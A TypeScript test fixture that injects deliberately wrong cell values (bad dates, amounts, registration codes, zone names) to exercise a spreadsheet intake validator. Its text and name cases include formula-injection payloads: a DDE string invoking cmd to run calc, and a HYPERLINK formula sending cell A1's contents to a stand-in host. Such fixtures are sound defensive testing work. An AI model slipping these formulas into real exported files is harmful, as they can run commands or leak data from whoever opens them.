import { kindOfField } from '../src/intake/vocabulary.ts';
import type { Chance, Values } from './layouts.fixture.ts';
import type { Slip } from './paper-draft.fixture.ts';

type Wrong = readonly [kind: string, printed: string | number | Slip['printed'], keeps?: string];

const dates: readonly Wrong[] = [
  ['impossible_date', '2025年2月30日'],
  ['impossible_date', '2025.13'],
  ['impossible_date', '2025.6.31'],
  ['impossible_date', '20250229'],
  ['impossible_date', 0],
  ['impossible_date', -5],
  ['date_out_of_range', '2205年3月'],
  ['date_without_year', '3月5日'],
  ['ambiguous_month', 2025.1],
  ['ambiguous_day_month', '05/06/2025'],
  ['not_a_date', '待定'],
  ['vague_date', '2025年底'],
  ['vague_date', '2025年3月上旬'],
  ['error_value', { value: '#VALUE!', error: true }],
];
const amounts: readonly Wrong[] = [
  ['not_a_number', '约'],
  ['not_a_number', '3.5.2'],
  ['not_a_number', '详见附件'],
  ['error_value', { value: '#REF!', error: true }],
  ['error_value', '#DIV/0!'],
  ['open_range', '10亿以上'],
  ['open_range', '不低于5亿元'],
  ['range_where_one_value_is_needed', '5-8'],
  ['range_where_one_value_is_needed', '3亿至5亿元'],
];
const byKind: Readonly<Record<string, readonly Wrong[]>> = {
  date: dates,
  money: amounts,
  uscc: [
    ['bad_check_digit', '91140171MAHTMQM131'],
    ['code_bad_length', '91141031MAYCH10B5'],
    ['code_bad_character', '91140981MAOQW5XW3D'],
    ['code_old_registration_number', '140100001234567'],
    ['code_precision_lost', 9.11401001257781e17],
    ['code_precision_lost', '9.11407E+17'],
    ['code_precision_lost', '911401001257781000'],
    ['bad_organisation_check_digit', '91140100MACMTB6N8X'],
  ],
  project_code: [
    ['project_code_malformed', '230514067189018368'],
    ['project_code_malformed', '2305-1406-89-01'],
    ['project_code_region_unknown', '2305-999999-89-01-836814', '2305-999999-89-01-836814'],
  ],
  zone: [
    ['zone_ambiguous', '经开区'],
    ['zone_ambiguous', '高新区'],
    ['zone_ambiguous', '长治开发区'],
    ['zone_ambiguous', '长治市襄垣县'],
    ['zone_unknown', '龙城经济开发区'],
    ['zone_unknown', '临份经济开发区'],
    ['zone_unknown', '山西省'],
  ],
  text: [
    ['formula_like_text', '=1+1', '=1+1'],
    ['formula_like_text', "+cmd|'/Ccalc'!A0", "+cmd|'/Ccalc'!A0"],
    ['formula_like_text', '@SUM(1+1)', '@SUM(1+1)'],
    ['formula_in_text_field', { value: null, formula: 'HYPERLINK("http://example.invalid/","详情")' }],
  ],
  name: [
    [
      'formula_like_text',
      '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
      '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    ],
  ],
};

/** Makes a source of faults: one cell in so many is wrong, by kinds that its field can have. */
export const slipsOf =
  (chance: Chance, share: number) =>
  (field: string, _values: Values): Slip | undefined => {
    if (!chance.is(share)) return undefined;
    const kind = kindOfField(field);
    const monthly = ['month_yuan', 'ytd_yuan', 'cumulative_yuan'].includes(field) || field.startsWith('arrived_');
    const more: readonly Wrong[] =
      kind !== 'money' || monthly
        ? []
        : [
            ['negative_amount', -3500],
            ['negative_amount', '-3500'],
          ];
    const zero: readonly Wrong[] =
      field === 'total_yuan'
        ? [
            ['zero_total', 0],
            ['zero_total', '0'],
          ]
        : [];
    const all = [...(byKind[kind] ?? []), ...more, ...zero];
    if (all.length === 0) return undefined;
    const [fault, printed, keeps] = chance.pick(all);
    return {
      kind: fault,
      printed: typeof printed === 'object' ? printed : { value: printed },
      ...(keeps === undefined ? {} : { keeps }),
    };
  };
